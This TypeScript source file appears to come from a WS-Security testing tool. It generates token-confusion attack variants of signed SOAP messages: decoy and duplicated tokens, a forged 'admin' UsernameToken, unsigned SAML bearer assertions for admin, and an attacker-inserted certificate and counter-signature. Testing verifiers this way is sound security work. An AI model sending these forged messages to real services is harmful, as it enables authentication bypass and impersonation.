import { createPrivateKey, sign, X509Certificate } from 'node:crypto';
import { attribute, child, withAttribute, type XmlElement } from '@holdfast/soap';
import { canonicalize } from '../../canonical/canonicalize.js';
import { BASE64_BINARY, DS, ds, WSSE, WSU, WSU_ID, X509_V3, XENC } from '../../namespaces.js';
import type { AttackFamily, AttackOptions } from './attack.js';
import { after, before, prepend, set } from './edit.js';
import { digestOf } from './reseal.js';
import { node, SecuredMessage, text, withoutId } from './secured-message.js';

const MORE = 'http://www.w3.org/2001/04/xmldsig-more#';
const OTHER = 'urn:uuid:00000000-dead-4bad-8bad-000000000000';

/** Tokens that stand before or behind the one that signs, for readers that take the first or the last. */
export const decoys: AttackFamily = function* (message, options) {
  const { security, timestamp } = message;
  for (const [kind, tokens] of [
    ['context', message.contextTokens],
    ['assertion', message.assertions],
    ['username', message.usernameTokens],
  ] as const) {
    const [token] = tokens;
    if (token === undefined) continue;
    const decoy = renamed(token);
    yield {
      name: `confusion/decoy-${kind}-first`,
      about: `Another ${token.local} stands before the one in use.`,
      result: message.with([token, before(decoy)]),
    };
    yield {
      name: `confusion/decoy-${kind}-last`,
      about: `Another ${token.local} follows the one in use.`,
      result: message.with([security, (of) => [{ ...of, children: [...of.children, decoy] }]]),
    };
    yield {
      name: `confusion/twice-${kind}`,
      about: `The ${token.local} stands there twice, with one Id.`,
      result: message.with([token, after(token)]),
    };
  }
  const username = node(
    `<wsse:UsernameToken xmlns:wsse="${WSSE}" xmlns:wsu="${WSU}" wsu:Id="decoy"><wsse:Username>admin</wsse:Username><wsse:Password Type="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0#PasswordText">guess</wsse:Password></wsse:UsernameToken>`,
  );
  yield {
    name: 'confusion/username-added',
    about: 'A UsernameToken of somebody else is added.',
    result: message.with([timestamp ?? security, timestamp === undefined ? prepend(username) : after(username)]),
  };
  const noPassword = node(
    `<wsse:UsernameToken xmlns:wsse="${WSSE}" xmlns:wsu="${WSU}" wsu:Id="decoy"><wsse:Username>admin</wsse:Username></wsse:UsernameToken>`,
  );
  yield {
    name: 'confusion/username-added-without-password',
    about: 'A UsernameToken without a password is added.',
    result: message.with([timestamp ?? security, timestamp === undefined ? prepend(noPassword) : after(noPassword)]),
  };
  for (const [version, namespace] of [
    ['1.1', 'urn:oasis:names:tc:SAML:1.0:assertion'],
    ['2.0', 'urn:oasis:names:tc:SAML:2.0:assertion'],
  ] as const) {
    yield {
      name: `confusion/assertion-added-${version}`,
      about: `A SAML ${version} assertion that nobody signed is added.`,
      result: message.with([
        timestamp ?? security,
        timestamp === undefined ? prepend(bareAssertion(namespace)) : after(bareAssertion(namespace)),
      ]),
    };
  }
  if (options.attacker === undefined) return;
  const der = new X509Certificate(options.attacker.certificate).raw.toString('base64');
  const token = node(
    `<wsse:BinarySecurityToken xmlns:wsse="${WSSE}" xmlns:wsu="${WSU}" wsu:Id="decoy" EncodingType="${BASE64_BINARY}" ValueType="${X509_V3}">${der}</wsse:BinarySecurityToken>`,
  );
  yield {
    name: 'confusion/decoy-certificate-first',
    about: "The attacker's certificate stands before every other token.",
    result: message.with([timestamp ?? security, timestamp === undefined ? prepend(token) : after(token)]),
  };
  yield {
    name: 'confusion/decoy-certificate-last',
    about: "The attacker's certificate follows every other token.",
    result: message.with([security, (of) => [{ ...of, children: [...of.children, token] }]]),
  };
  if (message.signature !== undefined)
    yield {
      name: 'confusion/endorsed-by-attacker',
      about: 'The attacker endorses the message: signs its signature, with a certificate that nobody trusts.',
      result: endorsed(message, options.attacker, token),
    };
};

function endorsed(
  message: SecuredMessage,
  attacker: NonNullable<AttackOptions['attacker']>,
  token: XmlElement,
): XmlElement {
  const { signature } = message;
  if (signature === undefined) return message.root;
  const named = attribute(signature, 'Id') ?? 'endorsed';
  const target = new SecuredMessage(text(message.with([signature, set('Id', named)])));
  const id = target.signature;
  if (id === undefined) return message.root;
  const template = node(
    `<ds:Signature xmlns:ds="${DS}"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/><ds:SignatureMethod Algorithm="${MORE}rsa-sha256"/><ds:Reference URI="#${named}"><ds:Transforms><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:Transforms><ds:DigestMethod Algorithm="${XENC}sha256"/><ds:DigestValue/></ds:Reference></ds:SignedInfo></ds:Signature>`,
  );
  const info = child(template, ds('SignedInfo')) as XmlElement;
  const reference = child(info, ds('Reference')) as XmlElement;
  const filled = digestOf(id, reference);
  const complete = node(text(template).replace(/<ds:DigestValue ?\/>/, `<ds:DigestValue>${filled}</ds:DigestValue>`));
  const value = sign(
    'sha256',
    Buffer.from(canonicalize(child(complete, ds('SignedInfo')) as XmlElement)),
    createPrivateKey(attacker.privateKey),
  );
  const second: XmlElement = {
    ...complete,
    children: [
      ...complete.children,
      node(`<ds:SignatureValue xmlns:ds="${DS}">${value.toString('base64')}</ds:SignatureValue>`),
      node(
        `<ds:KeyInfo xmlns:ds="${DS}"><wsse:SecurityTokenReference xmlns:wsse="${WSSE}"><wsse:Reference URI="#decoy" ValueType="${X509_V3}"/></wsse:SecurityTokenReference></ds:KeyInfo>`,
      ),
    ],
  };
  return target.with([id, (of) => [token, of, second]]);
}

function bareAssertion(namespace: string): XmlElement {
  return node(
    namespace.includes('1.0')
      ? `<saml:Assertion xmlns:saml="${namespace}" AssertionID="_decoy" MajorVersion="1" MinorVersion="1" Issuer="urn:attacker" IssueInstant="2026-01-01T00:00:00Z"><saml:AuthenticationStatement AuthenticationInstant="2026-01-01T00:00:00Z" AuthenticationMethod="urn:x"><saml:Subject><saml:NameIdentifier>admin</saml:NameIdentifier><saml:SubjectConfirmation><saml:ConfirmationMethod>urn:oasis:names:tc:SAML:1.0:cm:bearer</saml:ConfirmationMethod></saml:SubjectConfirmation></saml:Subject></saml:AuthenticationStatement></saml:Assertion>`
      : `<saml:Assertion xmlns:saml="${namespace}" ID="_decoy" Version="2.0" IssueInstant="2026-01-01T00:00:00Z"><saml:Issuer>urn:attacker</saml:Issuer><saml:Subject><saml:NameID>admin</saml:NameID><saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"/></saml:Subject></saml:Assertion>`,
  );
}

/** Another of its kind: other names in it, and another Id. */
function renamed(token: XmlElement): XmlElement {
  const visit = (of: XmlElement): XmlElement => ({
    ...of,
    children: of.children.map((each) => {
      if (typeof each !== 'object' || each.kind !== 'element') return each;
      return ['Identifier', 'Username', 'NameID', 'NameIdentifier'].includes(each.local)
        ? { ...each, children: [OTHER] }
        : visit(each);
    }),
  });
  return withAttribute(withoutId(visit(token)), WSU_ID, 'decoy');
}
